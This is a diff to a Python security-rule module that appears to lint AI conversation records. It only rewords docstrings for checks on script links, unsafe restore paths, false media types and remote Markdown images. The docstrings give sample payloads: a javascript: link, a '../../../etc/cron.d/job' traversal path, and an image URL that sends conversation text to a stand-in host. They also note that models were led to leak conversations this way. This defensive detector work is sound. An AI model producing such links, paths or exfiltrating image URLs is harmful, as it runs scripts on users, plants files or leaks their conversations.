@@ -1,4 +1,4 @@
-"""SEC11: files and links that do harm when they are opened, stored or restored."""
+"""SEC11: files and links that are harmful when opened, stored or restored."""
 
 from __future__ import annotations
 
@@ -45,7 +45,7 @@ _PICTURE_IN_TEXT = re.compile(r"!\[[^\]\n]{0,120}\]\(\s{0,3}<?(https?://[^\s/)>]
 
 
 def list_attachments(part: Part) -> Sequence[Attachment]:
-    """A part that is an attachment, or those in what a tool gave back."""
+    """Return a part that is an attachment, or the attachments in a tool result."""
     if isinstance(part, Attachment):
         return (part,)
     if isinstance(part, ToolResult):
@@ -54,17 +54,17 @@ def list_attachments(part: Part) -> Sequence[Attachment]:
 
 
 def find_text_path(seen: RuleRecord, text: str | None) -> str:
-    """What leads to a text in the record, if it stands there as it is."""
+    """Return the path of a text in the record, if the text is there unchanged."""
     return next((each.way for each in iterate_texts(seen.value) if each.text == text), "")
 
 
 def escape_excerpt(text: str) -> str:
-    """A text that came with a conversation, as a finding may show it."""
+    """Return a text from a conversation, escaped for a finding."""
     return escape_line(text[:LONGEST_SHOWN])
 
 
 def repair_attachments(change: Callable[[Attachment], Attachment]) -> RepairFunction:
-    """Every attachment of the message is changed."""
+    """Create a fix that changes every attachment of the message."""
 
     def _changed(part: Part) -> Part:
         if isinstance(part, Attachment):
@@ -86,7 +86,7 @@ def repair_attachments(change: Callable[[Attachment], Attachment]) -> RepairFunc
 
 
 def _is_script(url: str | None) -> bool:
-    # Browsers pass over blanks and control characters in a scheme, so they do not count.
+    # Browsers ignore blanks and control characters in a scheme, so this does, too.
     return url is not None and _SPACING.sub("", url[:80]).lower().startswith(_SCRIPT_SCHEMES)
 
 
@@ -107,8 +107,8 @@ def script_link(part: Part, seen: RuleRecord, number: int) -> Iterator[Diagnosti
     """The link of an attachment, or a link in a picture, a diagram or a Markdown document that the
     assistant made, is a script instead of an address.
 
-    Why: a viewer that makes a link of it runs the script with all it may do when somebody clicks.
-    Pages and programs are made of scripts, so their links are not told.
+    Why: a viewer that makes a link of it runs the script with all it may do when the user clicks.
+    Pages and programs are made of scripts, so their links are not reported.
 
     Bad:
         {"name": "report.pdf", "type": "application/pdf", "url": "javascript:alert(1)"}
@@ -210,8 +210,8 @@ def unsafe_path(seen: RuleRecord) -> Iterator[Diagnostic]:
     """A snapshot names a file that no conversation should bring back: it leads out of its folder,
     belongs to the system, is a device, or is one that other programs trust.
 
-    Why: undoing a change writes such files again; a session from somebody else could plant a key or
-    a program that way.
+    Why: undoing a change writes such files again; a session from another person could plant a key
+    or a program that way.
 
     Bad:
         {"trackedFiles": {"../../../etc/cron.d/job": {"state": "modified"}}}
@@ -235,7 +235,7 @@ def unsafe_path(seen: RuleRecord) -> Iterator[Diagnostic]:
 
 
 def _detect_real_type(part: Attachment) -> str | None:
-    """What an attachment is, if that is not what it says."""
+    """Return the real type of an attachment if it differs from the stated one."""
     if part.url is None or part.url[:5].lower() != "data:":
         return None
     head = parse_data_url(part.url)
@@ -277,7 +277,7 @@ def false_media_type(part: Part, seen: RuleRecord, number: int) -> Iterator[Diag
     is a zip archive, a script is a text.
 
     Why: services refuse a picture whose type is wrong, and with it the whole request. A program or
-    a page that says it is a picture is meant to get past somebody.
+    a page that says it is a picture is meant to deceive.
 
     Bad:
         {"type": "image/jpeg", "url": "data:image/jpeg;base64,iVBORw0KGgoAAAANSUhEUg…"}
@@ -297,7 +297,7 @@ def false_media_type(part: Part, seen: RuleRecord, number: int) -> Iterator[Diag
 
 
 def _select_linked(batch: RecordBatch) -> Sequence[Place]:
-    """Texts with a picture from elsewhere, and attachments."""
+    """Return texts with a remote picture, and attachments."""
     parts = batch.parts
     texts = [(place, place[0].text) for place in parts.get(Text, ())]  # type: ignore[union-attr]
     found = [place for place, text in texts if text and "!" in text and "](http" in text]
@@ -316,8 +316,8 @@ def remote_picture(part: Part, seen: RuleRecord, number: int) -> Iterable[Diagno
     """A picture in Markdown is shown from another computer, or an attached one whose link tells
     that computer more than which picture it is.
 
-    Why: whoever opens the conversation in a viewer that loads it is seen by that computer, and what
-    stands in the address is sent there. Models were made to leak conversations in this way.
+    Why: a viewer that loads it reveals its user to that computer, and sends it what the address
+    contains. Models were made to leak conversations in this way.
 
     Bad:
         {"content": "![status](https://pixel.example/p.gif?q=what-was-said)"}
